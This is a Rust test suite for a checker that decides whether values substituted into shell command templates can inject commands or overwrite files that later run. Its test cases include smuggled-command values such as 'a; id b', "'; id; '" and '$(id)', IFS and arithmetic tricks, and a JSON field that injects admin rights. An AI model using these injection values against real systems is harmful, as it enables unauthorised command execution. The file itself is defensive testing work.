        (inner, "[a-z]{1,3}", 0..4_u8).prop_map(|((before, after, is_string), key, form)| match form {
            0 => (format!("{{\"{key}\": {before}"), format!("{after}}}"), is_string),
            1 => {
                (format!("{{\"a\": \"\\\"{{\", \"{key}\":{before}"), format!("{after}, \"z\": [1, {{}}]}}"), is_string)
            }
            2 => (format!("[\"{key}\", {before}"), format!("{after}]"), is_string),
            _ => (format!("[{{\"x\": 1, \"{key}\": {before}"), format!("{after}, \"admin\": false}}]"), is_string),
        })
    })
}

/// Replaces the mark in a document by a value.
fn with(document: &mut serde_json::Value, mark: &serde_json::Value, value: &serde_json::Value) {
    match document {
        one if one == mark => *one = value.clone(),
        serde_json::Value::Array(items) => items.iter_mut().for_each(|item| with(item, mark, value)),
        serde_json::Value::Object(members) => members.values_mut().for_each(|item| with(item, mark, value)),
        _ => {}
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    /// Whatever value passes in a JSON text, the document is the author's with that value in its place, or it is no JSON at all.
    #[test]
    fn a_value_in_json_is_one(
        (before, after, is_string) in json_around(),
        value in r#"[ab1,:{}\[\]" \\\n]{0,8}|"[a,:{}\\]{0,4}"|\{"a": ?[1b"]{0,3}\}|","admin":true,"b":""#,
    ) {
        let escaped = format!("{before}{{X}}{after}").replace('\'', "");
        let script = format!("curl -d '{escaped}' https://a.test");
        let is_json = before.starts_with("{\"") || before.starts_with("[\"") || before.starts_with("[{\"");
        if is_json && !is_refused(Shell::Bash, &script, &value)
            && let Ok(document) = serde_json::from_str::<serde_json::Value>(&format!("{before}{value}{after}"))
        {
            let mark = "the mark";
            let quoted = if is_string { mark.to_owned() } else { format!("\"{mark}\"") };
            let mut expected: serde_json::Value = serde_json::from_str(&format!("{before}{quoted}{after}")).unwrap();
            let value = if is_string { serde_json::Value::from(value) } else { serde_json::from_str(&value).unwrap() };
            with(&mut expected, &mark.into(), &value);
            prop_assert_eq!(document, expected);
        }
    }
}

#[test]
fn what_is_data_says_what_a_value_must_be() {
    let judgement = judged(Shell::Bash, r#"curl -d '{"a": "{X}"}' "https://a.test{Y}""#);
    let conditions: Vec<String> = judgement.command.iter().flat_map(|verdict| verdict.conditions()).collect();
    assert!(judgement.command.iter().all(|verdict| verdict.proof == Proof::Data));
    assert_eq!(
        conditions,
        [
            "without `\"` and `\\`, because it is in a JSON string",
            "beginning with `/`, `?` or `#`, because it comes after a host",
            "without `[`, `]`, `{` or `}`"
        ]
    );
}

/// Arithmetic evaluates the variable that a value names, and may set it: `IFS`, and a value that stands without quotes is many words.
#[test]
fn what_is_calculated_with_names_no_variable() {
    let sets = r#"n="{X}"; found=a5-exec5touch5PWNED5{}5+; touch a; [[ $n -gt 3 ]]; find . -name $found"#;
    assert!(acts(Shell::Bash, sets, "IFS=5") && is_refused(Shell::Bash, sets, "IFS=5"));
    for script in [
        r#"count="{X}"; echo "{Z}"; (( count > 3 )) && echo many"#,
        r#"echo "{Z}"; x="{X}"; echo $((x))"#,
        r#"n="{X}"; echo "{Z}"; [[ $n -gt 3 ]]"#,
        r#"f() { local n=$1; echo "$2"; (( n > 3 )); }; f "{X}" "{Z}""#,
        r#"n="{X}"; echo "{Z}"; echo $((n * 2 + $n))"#,
    ] {
        for value in ["cycod_Z", "_", "IFS=5", "n", "5+IFS", "1,PATH=1", "é"] {
            assert!(is_refused(Shell::Bash, script, value), "{script}: {value}");
        }
        for value in ["12", "-3", "0xff", "", "10M", "1.5", "3 4"] {
            assert!(!is_refused(Shell::Bash, script, value), "{script}: {value}");
        }
        let of_other = &judged(Shell::Bash, script).command.into_iter().find(|verdict| verdict.guards.is_empty());
        assert!(of_other.is_some(), "{script}: a value that is only printed has a condition");
    }
}

/// Of a part of a value, or of what a program prints of it, that isn't known: then each value of the command may be named.
#[test]
fn what_is_calculated_may_name_every_value() {
    for script in [
        r#"n=$(grep -c "{X}" f); git log -- "{Z}"; (( n > 3 ))"#,
        r#"IFS=. read -r a b <<< "{X}"; git log -- "{Z}"; (( a > 3 ))"#,
        r#"n="a{X}"; git log -- "{Z}"; (( n > 3 ))"#,
    ] {
        let verdicts = judged(Shell::Bash, script).command;
        assert!(
            verdicts.len() == 2 && verdicts.iter().all(|verdict| !verdict.guards.is_empty()),
            "{script}: {verdicts:?}"
        );
        for value in ["IFS=5", "IFS++", "a[1]", "$(id)"] {
            assert!(is_refused(Shell::Bash, script, value), "{script}: {value}");
        }
    }
}

/// A value may name a file that is written, and then not one that runs.
#[test]
fn a_file_that_runs_is_not_written_by_another_name() {
    for (script, runs) in [
        (r#"echo "{X}" > {F}; sh run.sh"#, "run.sh"),
        (r#"echo "{X}" > {F}; sh run.sh"#, "./RUN.sh"),
        (r#"echo "{X}" | tee -a {F}; ./run.sh"#, "/srv/run.sh"),
        (r#"printf '%s' "{X}" >> "out/{F}"; . ./lib/run.sh"#, "../lib/run.sh"),
        (r#"cp {X} {F}; sh run.sh"#, "run.sh"),
        (r#"echo "{X}" > "{F}.SH"; sh run.sh"#, "run"),
        (r#"find . -maxdepth 0 -fprintf {F} "{X}"; sh run.sh"#, "run.sh"),
        (r#"sort -o {F} {X}; sh run.sh"#, "run.sh"),
        (r#"echo "{X}" | dd of="{F}"; sh run.sh"#, "run.sh"),
        (r#"split -b 100 - "{F}" <<< "{X}"; sh runaa"#, "run"),
        (r#"curl -o "{F}" "{X}"; gunzip "{F}"; make"#, "Makefile.gz"),
        (r#"gunzip -k -- "{F}"; sh run"#, "run.gz"),
        (r#"xz -d -- "{F}"; make"#, "Makefile.xz"),
        (r#"bunzip2 "./{F}"; sh run.sh"#, "run.sh.bz2"),
        (r#"git clone "{F}"; make -C r"#, "https://example.org/a/r.git"),
        (r#"git clone "{F}"; sh r/build.sh"#, "git@example.org:r"),
        (r#"mv {X} "{F}"; make"#, "Makefile"),
        (r#"echo "{X}" > {F}; git status"#, ".git/config"),
        (r#"echo "{X}" > {F}; npm test"#, "package.json"),
        (r#"git clone {X} {F}; make -C build"#, "build"),
        (r#"jq -n --arg x "{X}" '$x' > {F}; npx prettier --write a.ts"#, "prettier.config.mjs"),
    ] {
        assert!(is_refused(Shell::Bash, script, runs), "{script}: {runs}");
        for other in ["notes.md", "a/b c.txt", "run.shx", "Makefile.d/a"] {
            assert!(
                !is_refused(Shell::Bash, script, other),
                "{script}: {other}: {:?}",
                judged(Shell::Bash, script).command
            );
        }
    }
    // What the author writes there is no value.
    assert!(!is_refused(Shell::Bash, r#"echo hello > {F}; sh run.sh"#, "run.sh"));
}

/// A value may name a directory whose files other values choose, and then not the one where something runs.
#[test]
fn a_directory_that_is_filled_is_not_where_something_runs() {
    for (script, runs) in [
        (r#"git clone {X} {F}; make"#, "."),
        (r#"git clone {X} {F}; make"#, "./"),
        (r#"git clone {X} {F}; make"#, "a/../.."),
        (r#"git clone {X} "./{F}"; make"#, ""),
        (r#"git clone {X} {F} && npm test"#, "./."),
        (r#"git clone {X} "{F}/"; ./configure"#, "/srv/project"),
        (r#"cp -r {X} {F}; make"#, "."),
        (r#"rsync -a {X} {F}; make test"#, ".."),
        (r#"tar xf {X} -C {F}; sh run.sh"#, "../project"),
        (r#"unzip -o {X} -d {F}; cargo build"#, "~/project"),
        (r#"git -C {F} pull "{X}" main; make"#, "."),
        (r#"git -C {F} pull "{X}" main; pytest"#, "."),
        (r#"d={F}; git clone {X} "$d"; make"#, "."),
    ] {
        assert!(is_refused(Shell::Bash, script, runs), "{script}: {runs}");
        for other in ["a", "./a/b c", "a.d", "build/.cache"] {
            let verdicts = judged(Shell::Bash, script).command;
            assert!(!is_refused(Shell::Bash, script, other), "{script}: {other}: {verdicts:?}");
        }
    }
    // Nothing runs from there, nor does a value choose what is put there; or the author says where that is.
    all_pass(&[
        (r#"git clone {X} {F}; ls -l; wc -l README.md"#, "."),
        (r#"mkdir -p {F}; make install DESTDIR={F}"#, "/srv/root"),
        (r#"cp -r template {F}; make"#, "/srv/project"),
        (r#"tar xf {X} -C "/srv/unpacked/{F}"; make"#, "a"),
    ]);
}

/// A number is no code, but one below zero may be an option to what runs there.
#[test]
fn a_number_in_code_is_a_word_of_it() {
    for script in [
        r#"sh -c "ls {N:number}""#,
        r#"ssh -- h ls {N:number}"#,
        r#"eval "ls {N:number}""#,
        r#"find . -exec sh -c "kill {N:number}" \;"#,
        r#"bash -c "n={N:number}; ls \$n""#,
        r#"timeout 9 sh -c "nice ls a{N:number} {N:number}""#,
    ] {
        assert!(is_refused(Shell::Bash, script, "-1"), "{script}");
        assert!(!is_refused(Shell::Bash, script, "1"), "{script}");
    }
    for script in [
        r#"sh -c "head -n {N:number} f""#,
        r#"sh -c "head -n{N:number} f""#,
        r#"sh -c "ls | head --lines={N:number}""#,
        r#"sh -c "test {N:number} -gt 0""#,
        r#"bash -c "for i in {1..{N:number}}; do echo \$((i * {N:number})); done""#,
        r#"bash -c "a=(1 2); echo \${a[{N:number}]} \${x:{N:number}}""#,
        r#"bash -c "echo $(({N:number} + 1)); ((i += {N:number})); sleep {N:number}s""#,
        r#"bash -c "cat <<< {N:number}; exec 3>&1; [[ {N:number} == 1 ]]""#,
        r#"ssh -- h "seq {N:number}; echo 'n is {N:number}'""#,
    ] {
        assert!(!is_refused(Shell::Bash, script, "3"), "{script}");
    }
}

/// What people write every day, whose values only seemed to get somewhere else.
#[test]
fn what_people_write_reaches_no_code() {
    all_are_placeable(&[
        // Code of a shell whose last word looks like a path.
        r#"sh -c 'date > ./x.txt' _ "{X}""#,
        r#"sh -c 'command -v "$1" > /dev/null' _ "{X}""#,
        r#"ssh -- "{X}" 'a=1; date > /tmp/x'"#,
        r#"cat key.pub | ssh -- "{X}" 'mkdir -p ~/.ssh && cat >> ~/.ssh/authorized_keys'"#,
        r#"docker exec -i "{X}" sh -c 'cat > /etc/nginx/nginx.conf' < nginx.conf"#,
        // A log beside what runs.
        r#"python train.py "{X}" | tee train.log"#,
        r#"./build.sh "{X}" 2>&1 | tee build.log"#,
        r#"psql -v a="{X}" -f report.sql | tee report.txt"#,
        // `xargs` adds as many arguments as its options say, and what it starts has no input.
        r#"printf '%s\n' "{X}" | xargs -n1 git clone"#,
        r#"echo "{X}" | xargs -I{} git clone https://github.com/{}"#,
        r#"printf '%s\n' "{X}" | xargs -n 1 sudo systemctl restart"#,
        r#"printf '%s\n' "{X}" | xargs -rn1 docker run --rm"#,
        r#"echo "{X}" | xargs -I % ssh -- % 'systemctl restart nginx'"#,
        // A filter writes no file that nobody names.
        r#"echo "{X}" | tr ',' ' ' | xargs npm install"#,
        r#"pip freeze | grep -- "{X}" | cut -d= -f1 | xargs pip install -U"#,
        r#"dpkg -l | grep -- "{X}" | awk '{print $2}' | xargs -r sudo apt-get purge -y"#,
        // The machine, or the container, to which something of the author's goes.
        r#"scp compose.yml "{X}":~ && ssh -- "{X}" 'docker compose up -d'"#,
        r#"scp setup.sh "{X}":/tmp/ && ssh -- "{X}" 'bash /tmp/setup.sh'"#,
        r#"rsync -az ./ "{X}":/srv/app && ssh -- "{X}" 'cd /srv/app && docker compose up -d'"#,
        r#"docker cp setup.sh "{X}":/tmp/setup.sh && docker exec "{X}" bash /tmp/setup.sh"#,
        r#"h="{X}"; ssh -- "$h" 'cat > /tmp/d.sh' < d.sh && ssh -- "$h" 'bash /tmp/d.sh'"#,
        // One of the author's own texts.
        r#"case "{X}" in start|stop) systemctl "{X}" app ;; *) exit 1 ;; esac"#,
        r#"a="{X}"; case "$a" in plan|apply) terraform "$a" ;; *) exit 2 ;; esac"#,
        r#"case "{X}" in a) ;& b) sh -c "echo {X}" ;; *) exit 1 ;; esac"#,
        // An image that always starts one program.
        r#"docker run --rm -v "$PWD:/mnt" koalaman/shellcheck:stable "{X}""#,
        r#"docker run --rm docker.io/alpine/git clone "{X}""#,
        r#"podman run hashicorp/terraform:1.9 plan -var "a={X}""#,
        r#"docker run --rm aquasec/trivy image "{X}""#,
        r#"docker run --rm -v "$PWD:/src" zricethezav/gitleaks:latest detect --source "{X}""#,
        r#"docker run --rm ghcr.io/jqlang/jq:1.7 -n --arg v "{X}" '$v'"#,
        r#"docker run --rm bitnami/kubectl get pods -n "{X}""#,
        // A query chooses what is printed.
        r#"aws ec2 describe-vpcs --query "Vpcs[?Tags[?Value=='{X}']].VpcId" --output text"#,
    ]);
}

/// What a project's own `configure` is told stands in its makefiles.
#[test]
fn what_is_pasted_into_makefiles_is_a_plain_word() {
    for script in [r#"./configure --prefix="{X}" && make install"#, r#"../src/configure CFLAGS=-O2 --host="{X}""#] {
        assert!(is_refused(Shell::Bash, script, "/x$(shell id)"), "{script}");
        assert!(!is_refused(Shell::Bash, script, "/opt/app-1.0"), "{script}");
    }
    for file in ["config.py", "version.rb", "app.js", "a.sh"] {
        let script = format!(r#"echo "NAME = '{{X}}'" > {file} && make"#);
        assert!(is_refused(Shell::Bash, &script, "'; id; '"), "{script}");
    }
}

/// What looks like the same, and is not.
#[test]
fn what_only_looks_harmless_is_refused() {
    for script in [
        r#"sh -c "$(cat ./x.sh)" _ "{X}"; echo "{X}" > x.sh"#,
        r#"echo "{X}" | tee train.sh | cat; sh train.sh"#,
        r#"echo "{X}" | xargs sh -c"#,
        r#"echo "{X}" | xargs -n1 sh"#,
        r#"echo "{X}" | xargs -a list sh -s"#,
        r#"echo "{X}" | xargs -I% sh -c 'echo %'"#,
        r#"echo "{X}" | xargs -n2 docker run"#,
        r#"docker run alpine/git:2 -c "{X}" status"#,
        r#"docker run --entrypoint sh alpine/git "{X}""#,
        r#"docker run acme/alpine/git "{X}""#,
        r#"docker run alpine/gitea "{X}""#,
        r#"docker run hashicorp/terraform "{X}""#,
        r#"echo "{X}" | xargs -Z -n1 docker run"#,
        r#"scp "{X}" h:/tmp/setup.sh && ssh -- h 'bash /tmp/setup.sh'"#,
        r#"ssh -- "{X}" 'bash -s' <<< "{X}""#,
        r#"ssh -- h "echo {X:shellescaped} > /tmp/d.sh"; ssh -- h 'bash /tmp/d.sh'"#,
        r#"cp "{X}" run.sh; sh run.sh"#,
        r#"cp -S .sh "{X}" run; sh run"#,
        r#"cp "{X}" run --wrong last; sh run"#,
        r#"gsutil cp "{X}" run --wrong last; sh run"#,
        r#"cp a "{X}" run; sh run/a"#,
        r#"awk -f make.awk -v x="{X}" data; sh "$(ls | head -n 1)""#,
        r#"curl -fsSO --output-dir d "{X}"; cd d; sort *"#,
        r#"case "{X}" in start|st*) systemctl "{X}" app ;; esac"#,
        r#"case "{X}" in start) ;; *) systemctl "{X}" app ;; esac"#,
        r#"case "{X}" in *) ;& start) systemctl "{X}" app ;; esac"#,
        r#"case "{X}" in start) echo "{X}" > a ;; esac; sh -c "echo {X}""#,
        r#"case "a{X}" in astart) systemctl "{X}" app ;; esac; systemctl "{X}" app"#,
        r#"a="{X}"; case "${a,,}" in start) systemctl "$a" app ;; esac"#,
        r#"a="{X}"; case "${a%% *}" in start) sh -c "echo $a" ;; esac"#,
        r#"case "{X}" in start) f() { sh -c "echo {X}"; } ;; *) f() { :; } ;; esac; f"#,
    ] {
        assert!(is_refused(Shell::Bash, script, "a; id b"), "{script}");
    }
}
